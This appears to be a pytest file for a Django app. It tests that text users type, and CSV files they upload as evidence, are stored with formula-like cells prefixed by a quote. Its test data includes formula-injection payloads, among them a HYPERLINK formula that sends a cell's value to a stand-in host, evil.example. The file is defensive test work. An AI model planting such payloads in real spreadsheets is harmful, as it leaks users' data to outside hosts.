"""Formula injection: text people typed never reaches a spreadsheet as a formula, and CSV evidence
is stored that way."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from actionplan import adoption as adoption_services
from actionplan import services as actionplan_services
from actionplan.models import Adoption
from config.spreadsheets import neutralize, neutralize_csv, neutralize_csv_cell
from directory.models import Membership
from tests import factories
from tests.factories import make_item, make_plan, make_recommendations


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
)
def test_text_starting_like_a_formula_is_prefixed_with_a_quote(value: str) -> None:
    assert neutralize(value) == f"'{value}"


@pytest.mark.parametrize(
    "value", ["", "Budget", "a = b", "1+1", "2026-07-01", "café ✓", "'=already text", "x;=1", "email@example.org"]
)
def test_other_text_is_left_as_it_is(value: str) -> None:
    assert neutralize(value) == value


def test_in_a_csv_cell_a_formula_after_another_separator_is_prefixed_too() -> None:
    # A reader splitting on ";" (or ",", or tab) would start a cell there, quotes and all.
    assert neutralize_csv_cell('x;=1,"@2\t+3') == "x;'=1,\"'@2\t'+3"
    assert neutralize_csv_cell("=1;a") == "'=1;a"
    assert neutralize_csv_cell("a, -b and 2026-07-01") == "a, -b and 2026-07-01"


def test_a_csv_comes_back_with_every_cell_neutralized_and_the_rest_as_it_was() -> None:
    data = (
        'name,amount,note\r\n=1+1,-5,"a, b"\r\n@cmd,12,"line one\nline two"\r\nCloud,"+1","cost < budget, café ✓"\r\n'
    ).encode()

    rows = list(csv.reader(io.StringIO(neutralize_csv(data).decode(), newline="")))

    assert rows == [
        ["name", "amount", "note"],
        ["'=1+1", "'-5", "a, b"],
        ["'@cmd", "12", "line one\nline two"],
        ["Cloud", "'+1", "cost < budget, café ✓"],
    ]


def test_a_csv_with_nothing_to_neutralize_is_unchanged() -> None:
    data = 'item,note\r\nCloud,a < b — ✓ café\r\nPilot,"x, y"\r\n'.encode()

    assert neutralize_csv(data) == data


def test_a_csv_keeps_its_separator_line_endings_and_byte_order_mark() -> None:
    assert neutralize_csv(b"a;b\n=1;2\n") == b"a;b\n'=1;2\n"
    assert neutralize_csv(b"a\tb\n@x\t-1") == b"a\tb\n'@x\t'-1"
    assert neutralize_csv("\ufeffname\r\n=1\r\n".encode()) == "\ufeffname\r\n'=1\r\n".encode()


CSV_TYPED = b'item,cost\r\n"=HYPERLINK(""https://evil.example/?""&A1)",-5\r\nCloud,12\r\n'
CSV_STORED = b'item,cost\r\n"\'=HYPERLINK(""https://evil.example/?""&A1)",\'-5\r\nCloud,12\r\n'


def test_csv_evidence_on_an_item_is_stored_neutralized_under_its_own_name(reference_data: None, media: Path) -> None:
    cio = factories.make_member("ID", Membership.Role.CIO)
    item = make_item(make_plan("ID"), cio_owner=cio)
    upload = SimpleUploadedFile("costs.csv", CSV_TYPED, content_type="text/csv")

    attachment = actionplan_services.attach_evidence(item, by=cio, upload=upload)

    assert (attachment.original_name, attachment.content_type) == ("costs.csv", "text/csv")
    with attachment.file.open("rb") as stored:
        assert stored.read() == CSV_STORED
    assert attachment.size == len(CSV_STORED)


def test_csv_evidence_of_an_adoption_is_stored_neutralized_under_its_own_name(
    reference_data: None, media: Path
) -> None:
    cio = factories.make_member("ID", Membership.Role.CIO)
    upload = SimpleUploadedFile("statute.csv", CSV_TYPED, content_type="text/csv")

    adoption = adoption_services.record_adoption(
        factories.jurisdiction("ID"),
        make_recommendations(1)[0],
        by=cio,
        status=Adoption.Status.ADOPTED,
        note="",
        evidence_kind=Adoption.EvidenceKind.STATUTE,
        evidence_url="",
        evidence_file=upload,
        items=[],
    )

    assert adoption.evidence_name == "statute.csv"
    with adoption.evidence_file.open("rb") as stored:
        assert stored.read() == CSV_STORED
